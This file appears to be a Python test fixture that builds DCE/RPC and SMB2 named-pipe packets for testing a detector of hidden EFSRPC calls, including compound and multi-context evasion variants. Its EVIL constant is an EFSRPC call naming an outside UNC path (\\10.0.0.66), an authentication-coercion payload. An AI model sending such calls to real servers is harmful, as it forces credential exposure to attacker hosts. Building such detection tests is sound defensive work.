# SPDX-License-Identifier: BSD-3-Clause
"""A call over a pipe that the audit tells, and a pipe of SMB2: for the tests about those who would hide it."""
import struct

from calls import EFSRPC, NDR, text
from made import smb2
from talks import THAT, Talk2, padded, related


def pdu(kind, body, call_id):
    return struct.pack('<BBBB4sHHI', 5, 0, kind, 3, b'\x10\0\0\0', 16 + len(body), 0, call_id) + body


def call(stub, opnum, call_id=7):
    return pdu(0, struct.pack('<IHH', len(stub), 0, opnum) + stub, call_id)


def bind(uuid=EFSRPC, contexts=1):
    syntaxes = [uuid if n + 1 == contexts else bytes([n]) * 16 for n in range(contexts)]
    body = b''.join(struct.pack('<HBB', n + 1 - contexts & 0xffff, 1, 0) + s + struct.pack('<I', 1) + NDR + struct.pack('<I', 2)
                    for n, s in enumerate(syntaxes))
    return pdu(11, struct.pack('<HHIB3x', 4280, 4280, 0, contexts) + body, 1)


ACK = pdu(12, struct.pack('<HHIH', 4280, 4280, 1, 4) + b'abc\0' + b'\0\0' + struct.pack('<BBHHH', 1, 0, 0, 0, 0) + NDR + struct.pack('<I', 2), 1)
ANSWER = pdu(2, struct.pack('<IHBBI', 4, 0, 0, 0, 53), 7)
EVIL = call(text('\\\\10.0.0.66\\share\\file') + struct.pack('<I', 0), 0)


CREATED = struct.pack('<HBBIQQQQQQII16sII', 89, 0, 0, 1, 0, 0, 0, 0, 0, 10, 0x80, 0, b'F' * 16, 0, 0)


def write2(data, fid=THAT):
    return struct.pack('<HHIQ16sIIHHI', 49, 112, len(data), 0, fid, 0, 0, 0, 0, 0) + data


def written2(data):
    return struct.pack('<HHIIHH', 17, 0, len(data), 0, 0, 0)


class Pipe2(Talk2):
    def start(self, tree=True):
        self.negotiate2(), self.logon2()
        if tree:
            self.tree2('IPC$', kind=2)
        return self

    def put(self, data):
        self.request(9, write2(data, b'F' * 16))
        self.response(9, written2(data))

    def get(self, data):
        self.request(8, struct.pack('<HBBIQ16sIIIHHB', 49, 0, 0, 4096, 0, b'F' * 16, 0, 0, 0, 0, 0, 0))
        self.response(8, struct.pack('<HBBIII', 17, 80, 0, len(data), 0, 0) + data)

    def at_once(self, *written, answered=True):
        self.compound([(5, self.create('lsarpc'))] + [(9, write2(d)) for d in written],
                      [(5, 0, CREATED)] + [(9, 0, written2(d)) for d in written] if answered else None)

    def with_its_tree(self, data):
        """TREE_CONNECT, CREATE and WRITE in one compound."""
        def chain(messages, reply):
            made = [related(m, reply) if i else m for i, m in enumerate(messages)]
            return b''.join([padded(m) for m in made[:-1]] + made[-1:])
        path = '\\\\SRV\\IPC$'.encode('utf-16-le')
        asked = (3, struct.pack('<HHHH', 9, 0, 72, len(path)) + path), (5, self.create('lsarpc')), (9, write2(data))
        back = (3, struct.pack('<HBBIII', 16, 2, 0, 0, 0, 0x1f01ff)), (5, CREATED), (9, written2(data))
        self.send(0, chain([smb2(c, b, mid=self.message + n, session=self.session, tree=0) for n, (c, b) in enumerate(asked)], False))
        self.send(1, chain([smb2(c, b, mid=self.message + n, session=self.session, reply=True) for n, (c, b) in enumerate(back)], True))
        self.message, self.tree_id = self.message + 3, 1
